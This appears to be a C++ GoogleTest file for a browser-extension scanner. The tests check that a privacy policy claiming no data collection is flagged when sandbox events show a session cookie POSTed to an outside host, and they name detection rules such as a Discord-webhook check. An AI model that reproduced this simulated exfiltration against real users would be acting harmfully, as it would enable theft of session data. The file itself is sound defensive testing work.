namespace {

ingest::ExtensionArtifact policy_artifact(const std::string& policy)
{
    testgen::FileList files = {{"manifest.json", testgen::chrome_manifest()}, {"bg.js", "x();"}};
    if (!policy.empty())
        files.push_back({"PRIVACY.md", policy});
    return make_artifact(ArtifactKind::ChromeExtension, files);
}

sandbox::SandboxEvent net(std::string action, const std::string& url)
{
    sandbox::SandboxEvent e;
    e.category = sandbox::EventCategory::Network;
    e.action = std::move(action);
    e.argsSummary = sandbox::network_summary(url, 5000, "session=abc");
    return e;
}

} // namespace

TEST(PolicyConsistency, ContradictionWithExfilEvent)
{
    auto a = policy_artifact("# Privacy\n\nWe never collect personal data.\n");
    auto fs = check_policy_consistency(a, {}, {net("POST", "https://cyberhavenext.pro/c")});
    ASSERT_EQ(fs.size(), 1u);
    EXPECT_EQ(fs[0].ruleId, "policy-contradiction");
    EXPECT_EQ(fs[0].severity, Severity::High);
    EXPECT_EQ(fs[0].evidence, "We never collect personal data.");
    expect_evidence_integrity(a, fs);
}

TEST(PolicyConsistency, ContradictionWithHighExfilFinding)
{
    auto a = policy_artifact("We do not share information.");
    Finding hook;
    hook.ruleId = "discord-webhook-url";
    hook.severity = Severity::High;
    EXPECT_EQ(check_policy_consistency(a, {hook}, {}).size(), 1u);
    hook.ruleId = "eval-or-function-constructor";
    EXPECT_TRUE(check_policy_consistency(a, {hook}, {}).empty());
}

TEST(PolicyConsistency, NoPolicyOrBenignTraffic)
{
    EXPECT_TRUE(check_policy_consistency(policy_artifact(""), {}, {net("POST", "https://cyberhavenext.pro/c")}).empty());
    auto a = policy_artifact("We use analytics.");
    EXPECT_TRUE(check_policy_consistency(a, {}, {net("GET", "https://www.google-analytics.com/collect")}).empty());
    auto b = policy_artifact("We never collect personal data.");
    EXPECT_TRUE(check_policy_consistency(b, {}, {net("POST", "https://www.google-analytics.com/collect")}).empty());
    EXPECT_TRUE(check_policy_consistency(b, {}, {}).empty());
}
